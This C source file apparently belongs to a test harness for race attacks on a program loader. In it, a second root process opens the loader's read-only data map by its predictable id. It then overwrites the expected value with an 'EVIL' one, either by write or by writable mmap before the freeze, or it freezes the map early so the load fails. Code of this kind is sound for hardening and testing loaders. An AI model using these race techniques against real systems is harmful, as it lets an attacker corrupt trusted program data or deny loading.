// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/*
 * Race attacks - by id: another root process opens the loader's map while it is made
 */
#include <sys/mman.h>
#include <unistd.h>
#include "race.h"

static int open_rodata(struct race *r)
{
	int fd = -1;

	/* Ids are given in the order in which the loader makes its maps. */
	while (r->running) {
		fd = map_by_id(r->last_id + r->victim->rodata);
		if (fd >= 0)
			break;
		race_step(r);
	}
	return fd;
}

/**
 * id_write() - write the map until it is frozen
 * @r: the round
 */
void id_write(struct race *r)
{
	int fd = open_rodata(r);
	uint32_t value = 0;

	while (r->running && !map_read(fd, &value) && value != ANSWER)
		race_step(r);
	while (r->running && !map_write(fd, EVIL))
		race_step(r);
	close(fd);
}

/**
 * id_mmap() - map it writable, write after the loader's update, unmap before its freeze
 * @r: the round
 */
void id_mmap(struct race *r)
{
	int fd = open_rodata(r);
	volatile uint32_t *p;

	p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd, 0);
	close(fd);
	if (p == MAP_FAILED)
		return;
	while (r->running && *p != ANSWER)
		race_step(r);
	*p = EVIL;
	munmap((void *)p, 4096);
}

/**
 * id_freeze() - freeze it before the loader has written it, so that the load fails
 * @r: the round
 */
void id_freeze(struct race *r)
{
	int fd = open_rodata(r);

	if (fd >= 0)
		map_freeze(fd);
	close(fd);
}
